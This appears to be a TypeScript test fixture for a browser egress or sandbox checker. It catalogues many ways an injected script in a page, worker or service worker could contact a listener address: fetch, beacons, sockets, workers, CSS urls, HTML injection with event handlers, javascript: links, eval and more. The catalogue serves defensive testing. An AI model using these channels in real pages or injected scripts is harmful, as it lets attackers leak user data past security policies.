/** Ways in which a script could send something away, each handed an address that is listened at. They are written as whoever had
 * got a script into the page would write them, and run where their list says. Each must be a function of its own, since it
 * is carried into the browser as text. */

export interface Address {
  /** http://…/ of a listener. */
  readonly http: string;
  /** Its host and port. */
  readonly place: string;
  /** A name to be looked up, which nobody has. */
  readonly name: string;
}
export type Way = (to: Address) => unknown;
export type Ways = Readonly<Record<string, Way>>;

/* What runs in the browser may use whatever browsers have, known to our types or not. */
declare const self: any;
declare const window: any;
declare const document: any;

/** One after the other in one page, which they leave standing. */
export const inPage: Ways = {
  fetch: to => fetch(to.http),
  'fetch, posted and kept alive': to => fetch(to.http, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
  fetchLater: to => self.fetchLater(to.http, { activateAfter: 0 }),
  XMLHttpRequest: to => {
    const request = new XMLHttpRequest();
    request.open('GET', to.http);
    request.send();
  },
  'XMLHttpRequest that waits': to => {
    const request = new XMLHttpRequest();
    request.open('GET', to.http, false);
    request.send();
  },
  beacon: to => navigator.sendBeacon(to.http, 'x'),
  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
  EventSource: to => void new EventSource(to.http),
  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
  'WebRTC, STUN': async to => {
    const peer = new self.RTCPeerConnection({ iceServers: [{ urls: `stun:${to.place}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },

  'fetch of an empty frame': to => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow.fetch(to.http);
  },
  'fetch of the hidden frame': to => window.frames[0].fetch(to.http),

  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
  'import()': to => import(`${to.http}x.js`),
  worker: to => void new Worker(`${to.http}x.js`),
  'worker of a blob': to =>
    void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' }))),
  'worker of a blob, of the hidden frame': to => {
    const frame = window.frames[0];
    void new frame.Worker(
      frame.URL.createObjectURL(new frame.Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' })),
    );
  },
  'worker of data:': to => void new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)})`),
  'shared worker of a blob': to =>
    void new SharedWorker(
      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' })),
    ),
  'service worker from elsewhere': to => navigator.serviceWorker.register(`${to.http}sw.js`),
  'paint worklet': to => (CSS as any).paintWorklet.addModule(`${to.http}x.js`),
  'sound worklet': to => new AudioContext().audioWorklet.addModule(`${to.http}x.js`),
  image: to => {
    new Image().src = to.http;
  },
  'image by srcset': to => {
    new Image().srcset = `${to.http} 2x, ${to.http}a 1x`;
  },
  'picture source': to => {
    const picture = document.createElement('picture');
    const source = Object.assign(document.createElement('source'), { srcset: to.http });
    picture.append(source, new Image());
    document.body.append(picture);
  },
  'image of an SVG': to => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to.http);
    svg.append(image);
    document.body.append(svg);
  },
  'use of an SVG': to => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
    use.setAttribute('href', `${to.http}x.svg#x`);
    svg.append(use);
    document.body.append(svg);
  },
  'filter of an SVG': to => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const filter = document.createElementNS('http://www.w3.org/2000/svg', 'filter');
    filter.id = 'way';
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'feImage');
    image.setAttribute('href', to.http);
    filter.append(image);
    const shape = document.createElementNS('http://www.w3.org/2000/svg', 'rect');
    shape.setAttribute('width', '9');
    shape.setAttribute('height', '9');
    shape.setAttribute('filter', 'url(#way)');
    svg.append(filter, shape);
    document.body.append(svg);
  },
  'image in an image': to => {
    new Image().src = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to.http}"/></svg>`)}`;
  },
  video: to => document.body.append(Object.assign(document.createElement('video'), { preload: 'auto', src: to.http })),
  'poster of a video': to => document.body.append(Object.assign(document.createElement('video'), { poster: to.http })),
  audio: to => {
    const audio = new Audio();
    audio.preload = 'auto';
    audio.src = to.http;
  },
  'track of a video': to => {
    const video = Object.assign(document.createElement('video'), { crossOrigin: 'anonymous' });
    const track = Object.assign(document.createElement('track'), { default: true, src: to.http });
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  embed: to => document.body.append(Object.assign(document.createElement('embed'), { src: to.http })),
  object: to => document.body.append(Object.assign(document.createElement('object'), { data: to.http })),
  frame: to => document.body.append(Object.assign(document.createElement('iframe'), { src: to.http })),
  'frame of data:': to =>
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: `data:text/html,<img src="${to.http}">` }),
    ),
  'frame of a blob': to =>
    document.body.append(
      Object.assign(document.createElement('iframe'), {
        src: URL.createObjectURL(new Blob([`<img src="${to.http}">`], { type: 'text/html' })),
      }),
    ),
  'frame by srcdoc': to =>
    document.body.append(
      Object.assign(document.createElement('iframe'), {
        srcdoc: `<img src="${to.http}"><script>fetch("${to.http}")</script>`,
      }),
    ),

  'script element': to =>
    document.body.append(Object.assign(document.createElement('script'), { src: `${to.http}x.js` })),
  'module element': to =>
    document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: `${to.http}x.js` })),
  'inline script': to => {
    const script = document.createElement('script');
    script.append(`new Image().src=${JSON.stringify(to.http)};fetch(${JSON.stringify(to.http)})`);
    document.body.append(script);
  },
  'import map': to => {
    const map = Object.assign(document.createElement('script'), { type: 'importmap' });
    map.append(JSON.stringify({ imports: { way: `${to.http}x.js` } }));
    document.head.append(map);
    const name = 'way';
    return import(name);
  },
  'speculation rules': to => {
    const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
    rules.append(JSON.stringify({ prefetch: [{ urls: [to.http], eagerness: 'immediate' }] }));
    document.head.append(rules);
  },
  'style sheet by link': to =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to.http })),
  preload: to =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: to.http })),
  modulepreload: to =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `${to.http}x.js` }),
    ),
  prefetch: to =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to.http })),
  prerender: to =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prerender', href: to.http })),
  preconnect: to =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: to.http })),
  'dns-prefetch': to =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `http://${to.name}/` }),
    ),
  icon: to => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to.http })),
  manifest: to => {
    document.querySelector('link[rel=manifest]')?.remove();
    const link = Object.assign(document.createElement('link'), { rel: 'manifest', href: to.http });
    document.head.append(link);
  },
  'compression dictionary': to =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'compression-dictionary', href: to.http }),
    ),
  'image button': to =>
    document.body.append(Object.assign(document.createElement('input'), { type: 'image', src: to.http })),
  'background attribute': to => {
    const whole = document.createElement('table');
    whole.setAttribute('background', to.http);
    document.body.append(whole);
  },
  'style attribute': to => {
    const box = document.createElement('div');
    box.setAttribute('style', `background:url(${to.http})`);
    box.append('x');
    document.body.append(box);
  },
  'style of an element': to => {
    const box = document.createElement('div');
    box.style.backgroundImage = `image-set(url(${to.http}) 1x)`;
    box.append('x');
    document.body.append(box);
  },
  'border, cursor, list and mask': to => {
    const box = document.createElement('li');
    box.style.borderImageSource = `url(${to.http}a)`;
    box.style.cursor = `url(${to.http}b), auto`;
    box.style.listStyleImage = `url(${to.http}c)`;
    box.style.maskImage = `url(${to.http}d)`;
    box.style.content = `url(${to.http}e)`;
    box.append('x');
    document.body.append(box);
  },
  'style element': to => {
    const style = document.createElement('style');
    style.append(`body{background:url(${to.http}a)} @import url(${to.http}b);`);
    document.head.append(style);
  },
  '@import by rule': to => {
    document.styleSheets[0].insertRule(`@import url(${to.http})`, 0);
  },
  'rule with an image': to => {
    document.styleSheets[0].insertRule(`html::before{content:url(${to.http})}`, 0);
  },
  'sheet made by script': to => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html::after{content:url(${to.http})}`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'face by script': to => new FontFace('way', `url(${to.http})`).load(),
  'face by rule': to => {
    document.styleSheets[0].insertRule(`@font-face{font-family:way2;src:url(${to.http})}`, 0);
    const box = document.createElement('p');
    box.style.fontFamily = 'way2';
    box.append('x');
    document.body.append(box);
    return document.fonts.load('1rem way2');
  },

  'another base': to => {
    const base = Object.assign(document.createElement('base'), { href: to.http });
    document.head.append(base);
    const image = new Image();
    image.src = 'way.png';
    base.remove();
  },
  innerHTML: to => {
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = `<img src="${to.http}" onerror="fetch('${to.http}')">`;
  },
  outerHTML: to => {
    const box = document.createElement('div');
    document.body.append(box);
    box.outerHTML = `<svg onload="fetch('${to.http}')"><image href="${to.http}"/></svg>`;
  },
  insertAdjacentHTML: to => document.body.insertAdjacentHTML('beforeend', `<img src="${to.http}">`),
  setHTMLUnsafe: to => {
    const box = document.createElement('div');
    document.body.append(box);
    box.setHTMLUnsafe(`<img src="${to.http}">`);
  },
  'document.write': to => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument.write(`<img src="${to.http}">`);
  },
  'fragment of a range': to =>
    document.body.append(document.createRange().createContextualFragment(`<img src="${to.http}">`)),
  'parsed document': to =>
    document.body.append(
      ...document.adoptNode(new DOMParser().parseFromString(`<img src="${to.http}">`, 'text/html').body).childNodes,
    ),
  'execCommand insertHTML': to => {
    const box = Object.assign(document.createElement('div'), { contentEditable: 'true' });
    document.body.append(box);
    box.focus();
    document.execCommand('insertHTML', false, `<img src="${to.http}">`);
  },
  'handler by attribute': to => {
    const box = document.createElement('button');
    box.setAttribute('onclick', `fetch('${to.http}')`);
    document.body.append(box);
    box.click();
  },
  'javascript: link': to => {
    const link = Object.assign(document.createElement('a'), { href: `javascript:void fetch('${to.http}')` });
    document.body.append(link);
    link.click();
  },
  'javascript: frame': to =>
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: `javascript:void fetch('${to.http}')` }),
    ),
  // Asked for later: what the tool that runs this may do is more than a page may.
  eval: to => void self.scheduler.postTask(() => self.eval(`new Image().src='${to.http}'`)),
  // oxlint-disable-next-line typescript/no-implied-eval -- that it is one is the point
  Function: to => void self.scheduler.postTask(() => new self.Function(`new Image().src='${to.http}'`)()),
  // oxlint-disable-next-line typescript/no-implied-eval -- that it is one is the point
  'timer with text': to => void self.setInterval(`new Image().src='${to.http}'`),
  'ping of a link': to => {
    const link = Object.assign(document.createElement('a'), { href: '#' });
    link.setAttribute('ping', to.http);
    document.body.append(link);
    link.click();
  },

  popup: to => void window.open(to.http),
  'popup without opener': to => void window.open(to.http, '_blank', 'noopener'),
  'link to another tab': to => {
    const link = Object.assign(document.createElement('a'), { href: to.http, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'empty popup, then sent away': to => {
    const other = window.open('about:blank');
    other.location.href = to.http;
  },

  attributionsrc: to => {
    const image = document.createElement('img');
    image.setAttribute('attributionsrc', to.http);
    document.body.append(image);
  },
  'federated sign-in': to =>
    (navigator as any).credentials.get({ identity: { providers: [{ configURL: `${to.http}x.json`, clientId: 'x' }] } }),
  'payment request': to =>
    new self.PaymentRequest([{ supportedMethods: `https://${to.place}/` }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  'notice with an icon': to => void new Notification('x', { icon: to.http }),
  'cover of what plays': to => {
    (navigator as any).mediaSession.metadata = new self.MediaMetadata({ artwork: [{ src: to.http }] });
  },
  'fetch in the background': async to =>
    ((await navigator.serviceWorker.ready) as any).backgroundFetch.fetch('way', to.http),
  'fenced frame': to => {
    const frame = document.createElement('fencedframe');
    document.body.append(frame);
    frame.config = new self.FencedFrameConfig(to.http);
  },
  'shared storage': to => self.sharedStorage.createWorklet(`${to.http}x.js`),
  'style by XSLT': to => {
    const xsl = new DOMParser().parseFromString(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="{document('${to.http}')}"/></xsl:template></xsl:stylesheet>`,
      'text/xml',
    );
    const made = new self.XSLTProcessor();
    made.importStylesheet(xsl);
    document.body.append(made.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document));
  },
};

export const inWorker: Ways = {
  fetch: to => fetch(to.http),
  XMLHttpRequest: to => {
    const request = new XMLHttpRequest();
    request.open('GET', to.http);
    request.send();
  },
  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
  EventSource: to => void new EventSource(to.http),
  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
  importScripts: to => self.importScripts(`${to.http}x.js`),
  'import()': to => import(`${to.http}x.js`),
  'worker of a blob': to =>
    void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' }))),
  'worker of data:': to => void new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)})`),
  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
  face: to => new FontFace('way', `url(${to.http})`).load(),
  'notice with an icon': to => void new Notification('x', { icon: to.http }),
  eval: to => void self.scheduler.postTask(() => self.eval(`fetch('${to.http}')`)),
};

export const inServiceWorker: Ways = {
  fetch: to => fetch(to.http),
  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
  EventSource: to => void new EventSource(to.http),
  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
  importScripts: to => self.importScripts(`${to.http}x.js`),
  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
  face: to => new FontFace('way', `url(${to.http})`).load(),
  'a page sent away': async to => {
    for (const client of await self.clients.matchAll())
      if (client.frameType === 'nested') await client.navigate(to.http);
  },
  'a page opened': to => self.clients.openWindow(to.http),
  'notice with an icon': to => self.registration.showNotification('x', { icon: to.http }),
  'fetch in the background': to => self.registration.backgroundFetch.fetch('way', to.http),
};
